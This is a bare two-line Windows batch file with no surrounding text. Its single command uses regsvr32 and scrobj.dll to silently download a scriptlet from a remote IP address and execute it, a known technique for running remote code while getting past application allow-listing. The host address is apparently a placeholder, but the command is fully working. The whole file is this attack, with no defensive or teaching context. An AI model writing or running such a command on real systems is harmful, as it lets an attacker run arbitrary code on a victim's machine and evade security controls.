@echo off
regsvr32 /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll
